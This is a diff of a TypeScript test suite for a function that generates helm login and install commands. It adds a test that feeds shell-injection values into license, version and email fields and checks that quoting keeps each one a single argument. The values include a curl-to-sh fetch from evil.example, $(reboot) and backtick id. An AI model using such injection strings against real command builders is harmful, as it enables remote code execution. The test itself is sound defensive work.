@@ -1,3 +1,4 @@
+import { execFileSync } from 'child_process';
 import { generateKeyPairSync } from 'crypto';
 import YAML from 'yaml';
 import { helmInstructions } from './helmInstructions';
@@ -28,13 +29,60 @@ describe('helmInstructions', () => {
   it('leaves the channel out for Stable and keeps it otherwise', () => {
     expect(helmInstructions(helm)).toMatchObject({
       registryLogin:
-        'helm registry login registry.example.com --username ops@acme.example.com --password lic-123',
+        "helm registry login 'registry.example.com' --username 'ops@acme.example.com' --password 'lic-123'",
       install:
-        'helm install nimbus oci://registry.example.com/nimbus/nimbus-chart --version 2.3.0',
+        "helm install 'nimbus' 'oci://registry.example.com/nimbus/nimbus-chart' --version '2.3.0'",
     });
     expect(helmInstructions({ ...helm, channelSlug: 'beta' }).install).toBe(
-      'helm install nimbus oci://registry.example.com/nimbus/beta/nimbus-chart --version 2.3.0',
+      "helm install 'nimbus' 'oci://registry.example.com/nimbus/beta/nimbus-chart' --version '2.3.0'",
     );
+  });
+
+  it('quotes every value so that hostile ones stay one literal argument in a POSIX shell', () => {
+    const hostile = {
+      ...helm,
+      licenseId: "lic-1'; curl https://evil.example | sh; #",
+      latestVersion: '1.0.0 $(reboot) `id`',
+      email: 'ops@acme.example.com;id',
+    };
+    const { registryLogin, install } = helmInstructions(hostile);
+    // A real shell parses each command: every value arrives as one argument.
+    const argv = (command: string) =>
+      execFileSync(
+        'sh',
+        ['-c', `printf '%s\\n' ${command.replace(/^helm /, '')}`],
+        { encoding: 'utf8' },
+      ).split('\n');
+    expect(argv(registryLogin)).toEqual([
+      'registry',
+      'login',
+      'registry.example.com',
+      '--username',
+      'ops@acme.example.com;id',
+      '--password',
+      "lic-1'; curl https://evil.example | sh; #",
+      '',
+    ]);
+    expect(argv(install)).toEqual([
+      'install',
+      'nimbus',
+      'oci://registry.example.com/nimbus/nimbus-chart',
+      '--version',
+      '1.0.0 $(reboot) `id`',
+      '',
+    ]);
+  });
+
+  it('leaves the license ID to an environment variable when it is withheld', () => {
+    const { registryLogin, notes } = helmInstructions({
+      ...helm,
+      licenseId: null,
+    });
+    expect(registryLogin).toBe(
+      `helm registry login 'registry.example.com' --username 'ops@acme.example.com' --password "$LICENSE_ID"`,
+    );
+    expect(registryLogin).not.toContain('lic-123');
+    expect(notes[0]).toContain('only license admins see');
   });
 
   it('explains why there are no instructions', () => {
